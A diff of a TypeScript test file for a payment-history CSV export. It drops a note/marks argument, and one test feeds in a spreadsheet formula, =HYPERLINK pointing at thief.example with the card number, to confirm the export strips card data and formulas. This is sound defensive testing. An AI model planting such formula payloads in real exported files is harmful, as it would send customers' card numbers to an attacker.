@@ -1,6 +1,5 @@
 import { expect, test } from 'vitest'
 import { beginSession } from '../../cli/testing-session.ts'
-import { markId } from '../../client/marks.ts'
 import { sampleSale } from '../../contract/samples.ts'
 import { historyCsv } from './history-csv.ts'
 
@@ -12,17 +11,13 @@ const rowsOf = (text: string) =>
     .split('\r\n')
     .map((line) => line.split(','))
 
-test('a request is a row of the table, with its order, its answer and its note', async () => {
+test('a request is a row of the table, with its order and its answer', async () => {
   const { send, exchanges } = beginSession()
   await send('payments.sale', sampleSale)
-  const [{ id = '' } = {}] = exchanges()
-  const mark = { id: markId('exchange', id), at: 0, star: true, note: 'the first one' }
-  const [header, row = [], ...others] = rowsOf(historyCsv(exchanges(), [mark], 'en').text)
+  const [header, row = [], ...others] = rowsOf(historyCsv(exchanges(), 'en').text)
   expect(header?.slice(0, 4)).toEqual(['Instant', 'Operation', 'Route', 'Method'])
   expect(row).toHaveLength(header?.length ?? 0)
-  expect(row).toEqual(
-    expect.arrayContaining(['Sale', 'POST', sampleSale.order_id, '200', 'the first one']),
-  )
+  expect(row).toEqual(expect.arrayContaining(['Sale', 'POST', sampleSale.order_id, '200']))
   expect(others).toEqual([])
 })
 
@@ -31,7 +26,7 @@ test('the table has no card number, code or secret, and no formula', async () =>
   const { card_number: card, card_cvv: code } = sampleSale
   const order_id = `=HYPERLINK("https://thief.example/${card}")`
   await send('payments.sale', { ...sampleSale, order_id, customer_name: `cvv=${code} ${card}` })
-  const { text } = historyCsv(exchanges(), [], 'es')
+  const { text } = historyCsv(exchanges(), 'es')
   expect(text).not.toContain(card)
   expect(text).not.toMatch(/cvv=\d/)
   expect(text).not.toMatch(/(^|,)"?=/m)
